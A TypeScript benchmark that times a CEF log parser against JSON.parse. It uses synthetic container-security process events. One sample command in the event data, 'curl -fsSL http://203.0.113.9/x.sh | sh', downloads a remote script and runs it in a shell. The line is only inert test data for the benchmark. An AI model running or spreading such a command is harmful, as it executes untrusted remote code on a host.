/**
 * How fast is `parseCef` against `JSON.parse` of the same event as JSON, in one process?
 *
 *     node --conditions=source bench/cef-parse.ts
 *
 * The events are runtime events of KCS: about 700 bytes and 27 keys, four in ten with escapes. Both readers take the same
 * number of events from strings in turn, so that a busy machine slows both. Prints one line of JSON: the median over the rounds
 * of JSON's time by CEF's time (1 = as fast, 2 = twice as fast), and the medians of the times. The figures quoted in
 * packages/cef come from here.
 */
import { writeCef, parseCef, type CefHeaderInput } from '@tidewaiter/cef'

const events = 20_000
const warmUps = 3
const rounds = 9

const messages = Array.from({ length: events }, (_, index) => received(message(index)))
const documents = messages.map((text) => {
  const { header, extension } = parseCef(text)
  return received(JSON.stringify({ ...header, extension }))
})

const ratios: number[] = []
const times = { cef: [] as number[], json: [] as number[] }
let keep = 0
for (let round = 0; round < warmUps + rounds; round++) {
  const json = microseconds(() => {
    for (const text of documents) keep += (JSON.parse(text) as { name: string }).name.length
  })
  const cef = microseconds(() => {
    for (const text of messages) {
      const { header, flat, diagnostics } = parseCef(text)
      keep += flat.length + diagnostics.length + (header === null ? 0 : header.name.length)
    }
  })
  if (round < warmUps) continue
  ratios.push(json / cef)
  times.json.push(json)
  times.cef.push(cef)
}

console.log(
  JSON.stringify({
    bench: 'cef-parse',
    node: process.version,
    events,
    rounds,
    meanBytes: Math.round(messages.reduce((sum, text) => sum + text.length, 0) / events),
    meanKeys: Math.round(messages.reduce((sum, text) => sum + parseCef(text).pairs.length, 0) / events),
    cefMicroseconds: rounded(median(times.cef)),
    jsonMicroseconds: rounded(median(times.json)),
    speedToJsonParse: rounded(median(ratios)),
  }),
)
if (keep === 0) throw new Error('Nothing was read.')

/** The same text as it comes from a socket: decoded, in one piece. A string made of parts is slower to read. */
function received(text: string): string {
  return new TextDecoder().decode(new TextEncoder().encode(text))
}

/** CPU time of `work` for each event: what another program on the machine disturbs least. */
function microseconds(work: () => void): number {
  const before = process.cpuUsage()
  work()
  const { user, system } = process.cpuUsage(before)
  return (user + system) / events
}

function median(values: readonly number[]): number {
  return values.toSorted((a, b) => a - b)[values.length >> 1] ?? Number.NaN
}

function rounded(value: number): number {
  return Math.round(value * 1000) / 1000
}

function message(index: number): string {
  const header: CefHeaderInput = {
    deviceVendor: 'Kaspersky',
    deviceProduct: 'Kaspersky Container Security',
    deviceVersion: '2.0',
    deviceEventClassId: 'PM-002',
    name: 'Process management',
    severity: index % 3 === 0 ? 7 : 3,
  }
  const commands = [
    '/usr/bin/python3 /srv/app/worker.py --queue default --batch 64',
    'sh -c curl -fsSL http://203.0.113.9/x.sh | sh',
    'nginx: worker process',
    'LANG=C PATH=/bin sh -c echo',
    'sed -e s/\\n// -e s/a=b// /etc/app.conf',
  ]
  const pairs: [string, string][] = [
    ['source', `api-${index % 977}`],
    ['dpid', String(1_000_000 + index)],
    ['spid', String(999_000 + index)],
    ['flexString1', index % 2 === 0 ? '0' : '1000'],
    ['flexString1Label', 'EGID'],
    ['flexString2', identifier(index)],
    ['flexString2Label', 'Container ID'],
    ['outcome', index % 3 === 0 ? 'Audit' : 'Other'],
    ['request', `registry.example.com/shop/api:1.${index % 90}`],
    ['act', 'exec'],
    ['dproc', 'sh'],
    ['duid', '0'],
    ['filePath', `/usr/bin/tool-${index % 50}`],
    ['cs1', 'prod-eu'],
    ['cs1Label', 'Cluster name'],
    ['cs2', `node-${index % 40}`],
    ['cs2Label', 'Node name'],
    ['cs3', 'shop'],
    ['cs3Label', 'Namespace name'],
    ['cs4', commands[index % commands.length] ?? ''],
    ['cs4Label', 'Command'],
    ['cs5', `api-7d9f8b6c5d-${index % 9973}`],
    ['cs5Label', 'Pod name'],
    ['cs6', 'api'],
    ['cs6Label', 'Container name'],
    ['cs7', `192.0.2.${index % 250}`],
    ['cs7Label', 'Node IP'],
  ]
  return `<134>Feb 18 10:07:28 host ${writeCef(header, pairs).text}`
}

/** 64 hexadecimal characters, as container identifiers are. */
function identifier(index: number): string {
  return Array.from({ length: 8 }, (_, word) =>
    (Math.imul(index + 1, 0x9e37_79b1 + word) >>> 0).toString(16).padStart(8, '0'),
  ).join('')
}
